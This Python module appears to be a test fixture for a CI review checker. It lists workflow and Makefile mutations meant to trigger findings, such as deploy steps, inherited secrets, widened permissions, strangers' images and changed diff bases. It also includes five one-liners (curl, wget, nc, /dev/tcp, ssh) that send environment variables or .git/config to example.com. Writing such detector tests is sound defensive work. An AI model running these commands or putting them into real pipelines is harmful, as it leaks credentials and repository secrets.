"""Ways to make a gate lie: who else runs beside the checks, when they run, and with what base."""

from attacks.attack import replace, write
from attacks.variants import joined, told
from attacks.workflow import CI, PULL, before, run, step

SENT = {
    "with curl": 'curl -d "$(env)" example.com',
    "with wget": "wget --post-file=.git/config example.com",
    "with netcat": "nc example.com 9 < .git/config",
    "with the shell": "env > /dev/tcp/example.com/9",
    "with ssh": "ssh a@example.com env",
}
DEPLOYS = "on: push\njobs:\n  a:\n    steps:\n      - name: A\n        run: |\n          "
FORKED = f"actions/checkout@{'a' * 40}"
BY_ITSELF = "a workflow would deploy by itself whatever it has checked out"
DEPLOYMENTS = (
    *("npx cdk deploy --all", "cdk -a . deploy '*/*'", "make deploy", "sam deploy", "pulumi up"),
    *("aws cloudformation create-stack", "aws lambda update-function-code", "terraform apply"),
)


ATTACKS = joined(
    *(
        told(
            f"other sources that are checked, by their {by}",
            replace(CI, "persist-credentials: false\n", f"{by}: mine\n"),
            "other-sources",
            says="the checks may look at other sources than the commit's",
        )
        for by in ("ref", "repository")
    ),
    told(
        "an action that a runner no longer runs",
        replace(".github/actions.toml", 'supported = ["', 'supported = ["node16", "'),
        "action-outlived",
        says="node16",
    ),
    *(
        told(f"a step that ends like {end}", before(f"run: ls a{end}"), "step-added")
        for end in (".name", ".description", ".with.retention-days")
    ),
    told(
        "a workflow that deploys",
        write(".github/workflows/a.yml", f"{DEPLOYS}npx cdk deploy --all\n"),
        "deploys-elsewhere",
        says=f".github/workflows/a.yml:6\n{BY_ITSELF}",
    ),
    *(
        told(f"a step with {command}", before(f"run: {command}"), "deploys-elsewhere", says=command)
        for command in DEPLOYMENTS
    ),
    told(
        "a stranger's action that deploys",
        before("uses: aws-actions/aws-cloudformation-github-deploy@v1"),
        "deploys-elsewhere",
    ),
    *(
        told(
            f"a secret used as {text}",
            step(f"        env:\n          A: ${{{{ {text} }}}}\n"),
            "tree-secret-used",
        )
        for text in ("secrets.A", "secrets['A']", "toJSON(secrets)", "github.token")
    ),
    told(
        "a target that is taken for a file",
        replace("Makefile", ".PHONY: check\n", ""),
        "target-hidden",
        says="needs.check",
    ),
    told("a file that is taken for a target", write("check", ""), "target-hidden", says="check:1"),
    told(
        "what the CDK looked up",
        write("cdk.context.json", '{\n  "availability-zones": ["a"]\n}\n'),
        "lookup-recorded",
        says="delete the file",
    ),
    told(
        "all secrets handed on",
        replace(PULL, "    with:\n      base:", "    secrets: inherit\n    with:\n      base:"),
        "tree-secret-used",
        "permission-changed",
    ),
    *(
        told(
            f"what the machine knows sent away {how}",
            before(f"run: {command}"),
            "tree-sends-away",
            "step-added",
        )
        for how, command in SENT.items()
    ),
    *(
        told(
            f"a job that may write {right}",
            replace(
                CI,
                "      contents: read # the code\n    steps:",
                f"      contents: read # the code\n      {right}: write\n    steps:",
            ),
            "tree-right-to-write",
            "permission-changed",
        )
        for right in ("id-token", "packages", "actions", "statuses")
    ),
    told(
        "checks in a stranger's image",
        replace(
            CI, "    name: every check\n", "    name: every check\n    container: stranger/python\n"
        ),
        "tree-image-of-others",
        "stranger-runs",
    ),
    told(
        "a stranger's service beside",
        replace(
            CI,
            "    name: every check\n",
            "    name: every check\n    services:\n      a:\n        image: stranger/a\n",
        ),
        "tree-image-of-others",
        "stranger-runs",
    ),
    told(
        "a stranger's machine",
        replace(
            CI,
            "    runs-on: ubuntu-24.04\n    timeout-minutes: 30",
            "    runs-on: [self-hosted]\n    timeout-minutes: 30",
        ),
        "stranger-runs",
    ),
    told(
        "a commit of an action that may be a fork's, in three jobs",
        replace(CI, "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1", FORKED),
        "stranger-runs",
        says="that is only in somebody's fork\nmake sure that the commit is one",
    ),
    told(
        "a part of the commit",
        replace(
            CI,
            "          fetch-depth: 0",
            "          sparse-checkout: docs\n          fetch-depth: 0",
        ),
        "other-sources",
        says="what is not there can't be red",
    ),
    told("a step only sometimes", step("        if: github.actor != 'me'\n"), "check-conditional"),
    told(
        "no pull request",
        replace(PULL, "  pull_request:\n", "  workflow_dispatch:\n"),
        "check-conditional",
    ),
    told(
        "only some files",
        replace(PULL, "  pull_request:\n", "  pull_request:\n    paths: [docs/**]\n"),
        "check-conditional",
    ),
    told(
        "a day that never comes",
        replace(".github/workflows/weekly.yml", '"17 5 * * 1"', '"17 5 31 2 *"'),
        "schedule-changed",
    ),
    told(
        "another base in a workflow",
        replace(PULL, "base: origin/${{ github.base_ref }}", "base: HEAD"),
        "base-chosen",
    ),
    told(
        "a history without the base", replace(CI, "fetch-depth: 0", "fetch-depth: 2"), "base-chosen"
    ),
    told(
        "another base in make",
        replace(
            "Makefile",
            '$(if $(BASE),--base "$(BASE)") $(if $(BUCKET)',
            "--base HEAD $(if $(BUCKET)",
        ),
        "base-chosen",
    ),
    told(
        "no base",
        replace("Makefile", '-m review $(if $(BASE),--base "$(BASE)")', "-m review"),
        "base-chosen",
    ),
    told(
        "another option beside the base",
        replace("Makefile", '--last "$(LAST)"', "--last 1"),
        "command-changed",
    ),
    told(
        "the report in a pipe, with its base",
        replace(CI, 'make review BASE="$BASE"', 'make review BASE="$BASE" | tee log'),
        "tree-status-swallowed",
    ),
    told("another base in a command", run("make review BASE=HEAD"), "base-chosen"),
)
